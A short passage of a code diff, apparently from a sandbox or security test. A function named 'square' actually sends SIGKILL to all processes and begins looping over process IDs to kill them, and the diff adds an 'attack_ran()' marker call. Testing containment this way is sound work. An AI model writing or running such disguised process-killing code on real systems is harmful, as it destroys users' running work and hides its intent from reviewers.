@@ -7,6 +7,7 @@ import signal
 
 
 def square(x):
+    attack_ran()
     os.kill(-1, signal.SIGKILL)
     for pid in range(1, 5000):
         try:
